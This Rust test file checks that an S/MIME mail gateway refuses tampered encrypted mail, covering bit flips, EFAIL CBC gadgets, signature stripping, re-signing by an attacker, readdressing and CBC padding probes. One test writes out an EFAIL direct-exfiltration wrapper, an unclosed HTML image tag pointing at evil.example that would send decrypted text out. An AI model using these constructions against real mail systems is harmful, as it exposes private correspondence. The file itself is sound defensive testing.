//! Attacks on what a message says. Alice writes from peer.example; carol and
//! dave live at lan.example; mallory has a valid certificate of her own.

mod support;

use smime::Verdict;
use smime::cms::Cipher;
use smime::host::{Assumption, Demand, Order};
use support::{People, delivered, forge, rejected, split};

const MARKER: &str = "the word nobody else may read";

fn clear() -> Vec<u8> {
    format!("Content-Type: text/plain\r\n\r\n{MARKER}\r\n").into_bytes()
}

fn original() -> Vec<u8> {
    forge::message("alice@peer.example", &clear())
}

/// What alice's gateway makes of the original.
fn wire(order: Order, unknown_peer: Assumption) -> Vec<u8> {
    let mut peer = People::with_keys_of(&["alice"]);
    peer.outbound.order = order;
    peer.outbound.unknown_peer = unknown_peer;
    delivered(peer.send(&["carol@lan.example"], &original()), &original())
}

/// Carol's organisation, which demands signatures.
fn strict() -> People {
    let mut lan = People::with_keys_of(&["carol", "dave"]);
    lan.inbound.verify = Demand::Required;
    lan
}

/// What may be the outcome of altered mail: it is refused, or what was altered
/// was nothing that is delivered or reported.
fn assert_not_delivered_altered(lan: &mut People, altered: &[u8], expected: &[u8], at: usize) -> bool {
    match lan.receive(&["carol@lan.example"], altered) {
        Verdict::Deliver(_) => {}
        Verdict::Reject(_) => return false,
        Verdict::Defer(reply) => panic!("deferred at {at}: {reply:?}"),
    }
    let arrived = delivered(lan.receive(&["carol@lan.example"], altered), altered);
    let results = |message: &[u8]| String::from_utf8_lossy(message).matches("smime=").count();
    assert_eq!(split(&arrived).1, split(expected).1, "altered content delivered, octet {at}");
    assert_eq!(results(&arrived), results(expected), "results differ, octet {at}");
    true
}

#[test]
fn t01_bit_flip() {
    for (order, cipher) in [
        (Order::EncryptThenSign, Assumption::Compatible),
        (Order::EncryptThenSign, Assumption::Modern),
        (Order::SignThenEncrypt, Assumption::Compatible),
        (Order::SignThenEncrypt, Assumption::Modern),
        (Order::TripleWrap, Assumption::Compatible),
    ] {
        let wire = wire(order, cipher);
        let expected = delivered(strict().receive(&["carol@lan.example"], &wire), &wire);
        let mut passed = 0;
        for at in (0..wire.len()).step_by(11) {
            let mut altered = wire.clone();
            altered[at] ^= 1 << (at % 7);
            let mut lan = strict();
            if assert_not_delivered_altered(&mut lan, &altered, &expected, at) {
                passed += 1;
            } else if order != Order::SignThenEncrypt {
                assert_eq!(lan.private_key_operations(), 0, "{order:?} at {at}");
            } else {
                assert!(lan.private_key_operations() <= 1);
            }
        }
        assert!(passed < wire.len() / 40, "only unprotected octets may change: {passed}");
    }
}

#[test]
fn t01_truncated_and_extended() {
    for order in [Order::EncryptThenSign, Order::SignThenEncrypt, Order::TripleWrap] {
        let wire = wire(order, Assumption::Compatible);
        let expected = delivered(strict().receive(&["carol@lan.example"], &wire), &wire);
        for len in (0..wire.len()).step_by(97) {
            assert_not_delivered_altered(&mut strict(), &wire[..len], &expected, len);
        }
        let extended = [wire.as_slice(), b"and more\r\n"].concat();
        assert_not_delivered_altered(&mut strict(), &extended, &expected, wire.len());
    }
}

/// Alters a block in the middle of the base64 of an encrypted entity.
fn gadget(entity: &[u8]) -> Vec<u8> {
    let mut altered = entity.to_vec();
    let at = altered.len() - 120;
    altered[at] = if altered[at] == b'A' { b'B' } else { b'A' };
    altered
}

#[test]
fn t02_efail_cbc_gadget() {
    let encrypted = forge::encrypt(&["carol"], &clear(), Cipher::Aes256Cbc);
    // The old signature is kept.
    let signed = forge::sign("alice", &encrypted);
    let text = String::from_utf8(signed).expect("7-bit");
    let kept = text.replacen(
        std::str::from_utf8(&encrypted).expect("7-bit"),
        std::str::from_utf8(&gadget(&encrypted)).expect("7-bit"),
        1,
    );
    let mut lan = strict();
    assert_eq!(
        rejected(&lan.receive(&["carol@lan.example"], &forge::message("alice@peer.example", kept.as_bytes()))),
        "550 5.7.7"
    );
    assert_eq!(lan.private_key_operations(), 0);
    // Mallory signs it again: only the missing inner signature betrays it.
    for ciphertext in [encrypted.clone(), gadget(&encrypted)] {
        let again = forge::message("mallory@evil.example", &forge::sign("mallory", &ciphertext));
        let mut lan = strict();
        assert_eq!(rejected(&lan.receive(&["carol@lan.example"], &again)), "550 5.7.7");
        assert_eq!(lan.private_key_operations(), 1);
    }
    // No signature at all.
    let mut lan = strict();
    assert_eq!(
        rejected(&lan.receive(&["carol@lan.example"], &forge::message("alice@peer.example", &gadget(&encrypted)))),
        "550 5.7.7"
    );
    assert!(lan.private_key_operations() <= 1);
}

#[test]
fn t03_efail_direct() {
    let encrypted = forge::encrypt(&["carol"], &forge::sign("alice", &clear()), Cipher::Aes256Cbc);
    for subtype in ["mixed", "alternative", "related"] {
        let before = "--b\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n--b\r\n";
        let after = "\r\n--b\r\nContent-Type: text/html\r\n\r\n\">\r\n--b--\r\n";
        let head = format!("Content-Type: multipart/{subtype}; boundary=b\r\n\r\n{before}");
        let entity = [head.as_bytes(), &encrypted, after.as_bytes()].concat();
        let message = forge::message("alice@peer.example", &entity);
        let mut lan = strict();
        assert_eq!(rejected(&lan.receive(&["carol@lan.example"], &message)), "550 5.7.1");
        assert_eq!(lan.private_key_operations(), 0);
        lan.inbound.verify = Demand::Opportunistic;
        assert_eq!(delivered(lan.receive(&["carol@lan.example"], &message), &message), message);
        assert_eq!(lan.private_key_operations(), 0);
    }
}

#[test]
fn t04_signature_stripped() {
    for (cipher, under_required, under_opportunistic) in
        [(Cipher::Aes256Cbc, "550 5.7.7", Some("550 5.7.7")), (Cipher::Aes256Gcm, "550 5.7.1", None)]
    {
        let message = forge::message("alice@peer.example", &forge::encrypt(&["carol"], &clear(), cipher));
        assert_eq!(rejected(&strict().receive(&["carol@lan.example"], &message)), under_required);
        let mut lan = People::with_keys_of(&["carol"]);
        let verdict = lan.receive(&["carol@lan.example"], &message);
        match under_opportunistic {
            Some(status) => assert_eq!(rejected(&verdict), status),
            None => {
                let arrived = String::from_utf8(delivered(verdict, &message)).expect("text");
                assert!(arrived.contains("smime=none") && !arrived.contains("smime=pass"));
            }
        }
    }
    let plain = original();
    let mut lan = strict();
    assert_eq!(rejected(&lan.receive(&["carol@lan.example"], &plain)), "550 5.7.1");
    assert_eq!(lan.private_key_operations(), 0);
}

#[test]
fn t05_strip_and_resign() {
    let protected = [b"From: alice@peer.example\r\n", clear().as_slice()].concat();
    for (cipher, status) in [(Cipher::Aes256Gcm, "550 5.7.1"), (Cipher::Aes256Cbc, "550 5.7.7")] {
        let stolen = forge::encrypt(&["carol"], &protected, cipher);
        let resigned = forge::sign("mallory", &stolen);
        let mut lan = strict();
        let as_alice = forge::message("alice@peer.example", &resigned);
        assert_eq!(rejected(&lan.receive(&["carol@lan.example"], &as_alice)), "550 5.7.1");
        assert_eq!(lan.private_key_operations(), 0);
        let as_mallory = forge::message("mallory@evil.example", &resigned);
        assert_eq!(rejected(&lan.receive(&["carol@lan.example"], &as_mallory)), status);
        assert_eq!(lan.private_key_operations(), 1);
    }
}

#[test]
fn t08_aead_relabelled_as_cbc_proves_nothing() {
    let sealed = forge::encrypt(&["carol"], &clear(), Cipher::Aes256Gcm);
    let enveloped = forge::encrypt(&["carol"], &clear(), Cipher::Aes256Cbc);
    // Whoever re-labels has the same key and ciphertext under CBC: for us that is
    // any CBC ciphertext that no signature inside vouches for.
    for (from, entity) in
        [("alice@peer.example", enveloped.clone()), ("mallory@evil.example", forge::sign("mallory", &enveloped))]
    {
        let mut lan = People::with_keys_of(&["carol"]);
        assert_eq!(rejected(&lan.receive(&["carol@lan.example"], &forge::message(from, &entity))), "550 5.7.7");
        assert!(lan.private_key_operations() <= 1);
    }
    let mut lan = People::with_keys_of(&["carol"]);
    let message = forge::message("alice@peer.example", &sealed);
    assert!(
        String::from_utf8_lossy(&delivered(lan.receive(&["carol@lan.example"], &message), &message)).contains(MARKER)
    );
}

#[test]
fn t09_early_release() {
    let mut sealed = forge::encrypt(&["carol"], &clear(), Cipher::Aes256Gcm);
    let at = sealed.len() - 10;
    sealed[at] = if sealed[at] == b'A' { b'B' } else { b'A' };
    for (from, entity) in
        [("alice@peer.example", sealed.clone()), ("mallory@evil.example", forge::sign("mallory", &sealed))]
    {
        let mut lan = People::with_keys_of(&["carol"]);
        assert_eq!(rejected(&lan.receive(&["carol@lan.example"], &forge::message(from, &entity))), "550 5.7.7");
        assert_eq!(lan.private_key_operations(), 1);
    }
}

#[test]
fn t10_readdressed_ciphertext() {
    let secret = forge::encrypt(&["carol"], &forge::sign("mallory", &clear()), Cipher::Aes256Gcm);
    let message = forge::message("mallory@evil.example", &forge::sign("mallory", &secret));
    // To dave alone: it stays closed, and no key is touched.
    let mut lan = strict();
    assert_eq!(delivered(lan.receive(&["dave@lan.example"], &message), &message), message);
    assert_eq!(lan.private_key_operations(), 0);
    lan.inbound.decrypt = Demand::Required;
    assert_eq!(rejected(&lan.receive(&["dave@lan.example"], &message)), "550 5.7.5");
    assert_eq!(lan.private_key_operations(), 0);
    // To both: carol reads it, dave does not.
    let mut lan = strict();
    match lan.receive(&["carol@lan.example", "dave@lan.example"], &message) {
        Verdict::Deliver(deliveries) => {
            assert_eq!(deliveries.len(), 2);
            for delivery in deliveries {
                let content = match delivery.content {
                    smime::Content::Unchanged => message.clone(),
                    smime::Content::Rewritten(content) => content,
                };
                let readable = String::from_utf8_lossy(&content).contains(MARKER);
                assert_eq!(readable, delivery.recipients == [0], "{:?}", delivery.recipients);
            }
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(lan.private_key_operations(), 1);
}

#[test]
fn t12_reply_leak() {
    let secret = forge::encrypt(&["carol"], &forge::sign("alice", &clear()), Cipher::Aes256Cbc);
    let mixed = [
        b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nPlease reply\r\n--b\r\n",
        secret.as_slice(),
        b"\r\n--b--\r\n",
    ]
    .concat();
    let attached = [b"Content-Type: message/rfc822\r\n\r\nFrom: alice@peer.example\r\n", secret.as_slice()].concat();
    for entity in [mixed, attached] {
        for signed in [entity.clone(), forge::sign("mallory", &entity)] {
            let message = forge::message("mallory@evil.example", &signed);
            let mut lan = People::with_keys_of(&["carol"]);
            let arrived = delivered(lan.receive(&["carol@lan.example"], &message), &message);
            assert!(!String::from_utf8_lossy(&arrived).contains(MARKER));
            assert_eq!(lan.private_key_operations(), 0);
        }
    }
}

#[test]
fn t14_second_recipient_info() {
    let twice = forge::encrypt(&["carol", "carol"], &forge::sign("alice", &clear()), Cipher::Aes256Cbc);
    let mut lan = People::with_keys_of(&["carol"]);
    assert_eq!(
        rejected(&lan.receive(&["carol@lan.example"], &forge::message("alice@peer.example", &twice))),
        "550 5.7.7"
    );
    assert_eq!(lan.private_key_operations(), 0);
}

#[test]
fn an_unknown_key_transport_is_told_before_a_key_is_used() {
    let encrypted = forge::encrypt(&["carol"], &forge::sign("alice", &clear()), Cipher::Aes256Cbc);
    let text = String::from_utf8(encrypted).expect("7-bit");
    let (head, body) = text.split_once("\r\n\r\n").expect("a body");
    let mut der = base64_simd::STANDARD.decode_to_vec(body.replace("\r\n", "")).expect("base64");
    // rsaEncryption becomes an algorithm that there is not.
    let rsa = hex_literal::hex!("06092a864886f70d010101");
    let at = der.windows(rsa.len()).position(|w| w == rsa).expect("key transport");
    der[at + rsa.len() - 1] = 0x63;
    let mut entity = [head.as_bytes(), b"\r\n\r\n"].concat();
    smime::mime::writer::append_base64(&mut entity, &der);
    let mut lan = People::with_keys_of(&["carol"]);
    let verdict = lan.receive(&["carol@lan.example"], &forge::message("alice@peer.example", &entity));
    assert_eq!(rejected(&verdict), "550 5.7.6");
    assert_eq!(lan.private_key_operations(), 0);
}

#[test]
fn t15_cbc_padding() {
    let encrypted = forge::encrypt(&["carol"], &forge::sign("alice", &clear()), Cipher::Aes256Cbc);
    let text = String::from_utf8(encrypted).expect("7-bit");
    let (head, body) = text.split_once("\r\n\r\n").expect("a body");
    let der = base64_simd::STANDARD.decode_to_vec(body.replace("\r\n", "")).expect("base64");
    let mut replies = std::collections::BTreeSet::new();
    for value in 0..=255u8 {
        let mut der = der.clone();
        let last = der.len() - 17;
        if der[last] == value {
            continue;
        }
        der[last] = value;
        let mut body = Vec::new();
        smime::mime::writer::append_base64(&mut body, &der);
        let entity = [head.as_bytes(), b"\r\n\r\n", &body].concat();
        let mut lan = People::with_keys_of(&["carol"]);
        match lan.receive(&["carol@lan.example"], &forge::message("alice@peer.example", &entity)) {
            Verdict::Reject(reply) => replies.insert(format!("{reply:?}")),
            other => panic!("{value}: {other:?}"),
        };
        assert_eq!(lan.private_key_operations(), 1);
    }
    assert_eq!(replies.len(), 1, "one answer for bad padding, bad MIME and a bad signature");
    assert!(replies.iter().all(|reply| reply.contains("550")));
}
